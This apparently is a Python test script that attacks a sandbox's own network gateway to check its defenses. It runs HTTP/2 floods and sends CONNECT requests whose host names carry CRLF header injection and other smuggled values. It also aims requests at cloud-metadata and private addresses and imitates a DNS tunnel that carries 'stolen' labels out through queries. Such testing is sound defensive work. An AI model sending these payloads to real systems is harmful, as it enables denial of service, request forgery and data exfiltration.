"""Against the gateway, as root in the sandbox: what no sbx-guest would send, on the network port itself.

  network_attack.py ROUNDS     how long the floods are
"""
import faulthandler
import struct
import sys
import time

from hostile_port import (DATA, Drain, END_HEADERS, END_STREAM, HEADERS, Lost, PREFACE, Port, RESET, SETTINGS,
                          field, frame, say, stopped_guest)


ROUNDS = int(sys.argv[1])


def connect(stream, authority, more=b""):
    return frame(HEADERS, END_HEADERS, stream, field(b":method", b"CONNECT") + field(b":authority", authority) + more)


def begin(port):
    port.synchronise()
    port.send(PREFACE + frame(SETTINGS, 0, 0))


def garbage(port):
    port.send(b"G" * (1 << 20), 10)


def flood(port, piece):
    """As fast as it is taken, until the host has had enough or all is sent."""
    begin(port)
    drain = Drain(port)
    for first in range(0, 10_000 * ROUNDS, 1000):
        data = b"".join(piece(2 * i + 1) for i in range(first, first + 1000))
        if port.send(data, 20) < len(data):
            break
    drain.stop()


def streams_without_end(port):
    flood(port, lambda stream: connect(stream, b"denied.invalid:9999"))


def resets(port):
    flood(port, lambda stream: connect(stream, b"denied.invalid:9999") + frame(RESET, 0, stream, struct.pack(">I", 8)))


HOSTILE_NAMES = [
    b"denied.invalid\nFORGED allowed:80", b"denied.invalid\r\nX-Forged: 1:80", b"\x1b[2JFORGED:80", b"a\0b.invalid:80",
    b'","allowed":true,"host":"FORGED:80', b"FORGED\\n\\u000a.invalid:80", "FORGED\u2028\u202e.invalid:80".encode(),
    b"\xff\xfe.invalid:80", b"x" * 3000 + b".invalid:80", b"%0aFORGED.invalid:80", b"user:pass@denied.invalid:80",
    b"169.254.169.254:80", b"[::ffff:169.254.169.254]:80", b"2852039166:80", b"0xa9fea9fe:80", b"127.0.0.1:80",
    b"[::1]:80", b"10.0.0.1:80", b"192.168.0.1:80", b"198.18.0.1:80", b"[fd00::1]:80", b"[2001:4860:4860::8888]:53",
    b"8.8.8.8:53", b"0.0.0.0:80", b"localhost:80", b"denied.invalid:99999", b"denied.invalid", b":80", b"",
]


def names_that_lie(port):
    begin(port)
    drain = Drain(port)
    stream = 1
    for name in HOSTILE_NAMES:
        request = b"GET /FORGED HTTP/1.1\r\nHost: " + name.split(b":")[0][:200] + b"\r\n\r\n"
        port.send(connect(stream, name) + frame(DATA, END_STREAM, stream, request), 5)
        stream += 2
    # Header lines of HTTP/2 that would become lines of HTTP/1.
    for more in (field(b"x", b"a\r\nHost: FORGED"), field(b"x\r\nhost", b"FORGED"), field(b"host", b"allowed.test")):
        port.send(connect(stream, b"denied.invalid:80", more), 5)
        stream += 2
    time.sleep(1)
    drain.stop()


def query(labels, kind):
    return (struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) +
            b"".join(bytes([len(label)]) + label for label in labels) + b"\0" + struct.pack(">HH", kind, 1))


def dns_that_lies(port):
    begin(port)
    drain = Drain(port)
    stream = 1
    names = [[b"a\nFORGED", b"invalid"], [b"\x1b[2J", b"invalid"], [b"a\0b", b"invalid"], [b"dot.in.label", b"invalid"],
             [b"\xff\xfe", b"invalid"], [b"x" * 63] * 3 + [b"invalid"], [b"*", b"invalid"]]
    # A tunnel: what is to be carried out is in the names.
    names += [[b"stolen%03d" % i, b"tunnel", b"invalid"] for i in range(100)]
    messages = [query(labels, kind) for labels in names for kind in (1, 16, 28, 15)]
    messages += [b"", b"\0" * 11, b"\xff" * 600, query([b"a"], 1)[:-3], query([b"a"], 1)[:12] + b"\xc0\x0c\0\1\0\1",
                 struct.pack(">HHHHHH", 7, 0x100, 65535, 65535, 65535, 65535) + b"\1a\0"]
    for message in messages:
        head = (field(b":method", b"POST") + field(b":scheme", b"http") + field(b":authority", b"gateway") +
                field(b":path", b"/dns-query") + field(b"content-type", b"application/dns-message"))
        port.send(frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, message), 5)
        stream += 2
    time.sleep(1)
    drain.stop()


def main():
    faulthandler.dump_traceback_later(240, exit=True)
    port = Port("sbx.network")
    with stopped_guest():
        for attack in (garbage, streams_without_end, resets, names_that_lie, dns_that_lies):
            try:
                attack(port)
            except Lost:
                pass
            port.end_session()
            say(attack.__name__)
        port.close()
    say("done")


main()
